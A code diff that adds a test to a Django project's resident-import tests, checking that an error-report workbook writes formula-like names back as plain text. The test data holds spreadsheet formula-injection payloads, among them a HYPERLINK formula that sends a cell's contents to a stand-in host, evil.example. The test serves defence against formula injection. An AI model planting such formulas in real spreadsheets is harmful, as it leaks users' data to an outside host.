@@ -1,5 +1,6 @@
 """The import_residents command, the error-report workbook and the import template."""
 
+import csv
 import io
 import json
 
@@ -120,3 +121,17 @@ def test_template_can_be_filled_and_imported(demo, tmp_path):
     assert json.loads(lines[-1])["created"] == 1
     person = Person.objects.get()
     assert (person.registration, person.residence_status, person.education) == ("local", "permanent", "junior_high")
+
+
+def test_error_report_writes_back_formula_like_values_as_text():
+    """A clerk opens the report: a name typed as =HYPERLINK(…) must not become a live formula."""
+    hostile = ['=HYPERLINK("http://evil.example/?x="&A1,"点我")', "+1+1", "@SUM(A1:A2)", "-2+3"]
+    rows = [HEADERS, *([value, make_id(sequence="013")] for value in hostile)]
+    text = io.StringIO()
+    csv.writer(text).writerows(rows)  # as a clerk's CSV holds them: the typed text, not a formula
+    out = io.BytesIO()
+    write_error_report(data=text.getvalue().encode("utf-8"), filename="a.csv", header_row=1, out=out,
+                       errors=[RowError(row, "姓名", "不对。") for row in range(2, 2 + len(hostile))])
+    sheet = load_workbook(io.BytesIO(out.getvalue())).active
+    assert [cell.data_type for row in sheet.iter_rows() for cell in row if cell.data_type == "f"] == []
+    assert [sheet.cell(row=row, column=1).value for row in range(2, 2 + len(hostile))] == hostile
